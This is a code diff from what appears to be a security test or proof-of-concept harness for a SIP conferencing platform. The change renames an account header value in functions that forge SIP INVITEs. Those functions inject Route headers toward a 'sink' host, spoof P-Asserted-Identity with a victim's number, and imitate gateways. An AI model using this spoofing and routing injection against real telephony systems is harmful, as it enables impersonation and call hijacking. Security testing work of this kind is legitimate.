@@ -190,7 +190,7 @@ async function placeCalls(attack: Attack): Promise<void> {
     [`Route: <sip:${meeting.sip};lr>, <sip:${sink.host};lr>`],
     [`Route: <sip:gw-1@${meeting.sip};lr;did=1.1>`],
     [`Record-Route: <sip:${sink.host};lr>`, `Path: <sip:${sink.host};lr>`],
-    ['X-Partyline-Account: platform', `X-Partyline-Number: ${victim}`, 'X-Partyline-Call: gw-1.x'],
+    ['X-Partyline-Account: platform-sip', `X-Partyline-Number: ${victim}`, 'X-Partyline-Call: gw-1.x'],
     [`P-Asserted-Identity: <sip:${victim}@${meeting.sip}>`, 'Privacy: id'],
   ];
   const callers = ['anyone', victim, OUTSIDE_NUMBER, 'gw-1', 'gw-2'];
@@ -258,7 +258,7 @@ async function imitateGateways(attack: Attack): Promise<void> {
         method: 'INVITE',
         uri,
         from: `<sip:${user}@${meeting.sip}>;tag=${randomUUID()}`,
-        headers: ['X-Partyline-Account: platform', `X-Partyline-From: ${OUTSIDE_NUMBER}`, AS_SDP],
+        headers: ['X-Partyline-Account: platform-sip', `X-Partyline-From: ${OUTSIDE_NUMBER}`, AS_SDP],
         body: SDP,
       };
       const what = `a call as ${user} to ${target.replace(sink.host, 'a third party')}`;
